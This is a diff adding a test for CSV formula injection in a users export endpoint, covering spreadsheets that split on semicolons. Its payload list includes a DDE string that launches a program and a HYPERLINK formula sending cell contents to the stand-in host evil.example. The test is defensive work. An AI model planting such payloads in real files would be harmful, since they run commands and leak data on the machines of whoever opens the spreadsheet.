@@ -73,6 +73,31 @@ describe('formula injection through GET /users/export', () => {
     }
   });
 
+  it('writes no formula a spreadsheet splitting lines on ";" would run (Excel where the list separator is ";", as in Italy)', async () => {
+    // Such a spreadsheet opens the file with ";" as the delimiter and honours a quote only at the
+    // start of a field: `Rossi;=1+1` would give a cell `=1+1`, and two neighbouring cells could
+    // join into one formula across the "," between them.
+    const payloads = ['Rossi;=1+1', 'a; @SUM(1+1)', "b;'-2+3", "c;=cmd|' /C calc'!A0", 'd;=HYPERLINK("http://evil.example/?"&A1;"x")'];
+    const docs = payloads.map((name, index) => ({
+      userGroup: 'customer',
+      company: 'semi',
+      username: `u${index};=1&`,
+      email: `;=HYPERLINK(CHAR(104)&A1)${index}`,
+      name,
+      tags: [name.replace(/,/g, ' ')],
+    }));
+    const { ids } = await service.deps.users.insertMany(docs, { actorId: 'test', headers: {} });
+    const csv = await exportCsv('company=semi');
+    const fields = (parse(csv, { delimiter: ';', relax_quotes: true, relax_column_count: true }) as string[][]).flat();
+    expect(fields.filter((field) => RUNS.test(field))).toEqual([]);
+
+    const form = new FormData();
+    form.append('file', new Blob([csv], { type: 'text/csv' }), 'users.csv');
+    const reimport = await fetch(`${service.url}/users/import`, { method: 'PATCH', body: form, headers: { 'x-api-key': TEST_API_KEY } });
+    expect(await reimport.json()).toMatchObject({ inserted: [], invalid: [] });
+    for (const [index, id] of ids.entries()) expect((await service.call('GET', `/users/${id}`)).body).toMatchObject(docs[index]!);
+  });
+
   it('serves the file to administrators only, never cached', async () => {
     expect((await fetch(`${service.url}/users/export`)).status).toBe(401);
     const response = await fetch(`${service.url}/users/export`, { headers: { 'x-api-key': TEST_API_KEY } });
